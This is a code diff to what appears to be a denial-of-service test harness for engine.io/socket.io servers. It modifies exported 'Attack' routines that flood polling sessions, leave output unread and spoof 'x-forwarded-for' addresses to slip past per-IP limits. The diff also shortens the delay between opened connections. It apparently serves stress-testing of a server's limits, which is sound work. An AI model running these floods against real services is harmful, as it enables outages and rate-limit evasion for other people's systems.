@@ -19,8 +19,8 @@ const SOCKETS = 16;
 const MOVES_UNREAD = 40;
 
 /** A polling session of engine.io. */
-async function openPolling({ platform, newAddress }: Target) {
-  const headers = { 'x-forwarded-for': newAddress() };
+async function openPolling({ platform }: Target, address: string) {
+  const headers = { 'x-forwarded-for': address };
   const url = `${platform.url}/socket.io/?EIO=4&transport=polling`;
   const { sid } = JSON.parse((await (await fetch(url, { headers })).text()).slice(1));
   /** Sends packets in one request; resolves to whether the session is open. */
@@ -59,8 +59,9 @@ function floodByWebsocket({ platform, newAddress }: Target, packet: string, sign
 }
 
 function floodByPolls(t: Target, signal: AbortSignal) {
+  const address = t.newAddress();
   return flood(signal, async () => {
-    const send = await openPolling(t);
+    const send = await openPolling(t, address);
     while ((await send(Array(1_900).fill('3'))) && !signal.aborted);
   });
 }
@@ -87,7 +88,7 @@ async function unreadWebsocket(t: Target): Promise<Unread> {
 
 /** Polls that never read the pending output. */
 async function unreadPolls(t: Target): Promise<Unread> {
-  const post = await openPolling(t);
+  const post = await openPolling(t, t.newAddress());
   let isCut = false;
   const send = async (packets: readonly string[]): Promise<void> => {
     isCut = !(await post(packets));
@@ -180,7 +181,7 @@ export const FLOODS: readonly Attack[] = [
       const address = t.newAddress();
       // Below the request limit, so that the session limit applies.
       const opened = await times(1_200, async (n) => {
-        await delay(Math.floor(n / 150) * 1_000);
+        await delay(Math.floor(n / 15) * 100);
         return openWire(t.platform.url, address).catch(() => null);
       });
       const wires = opened.filter((wire) => wire !== null);
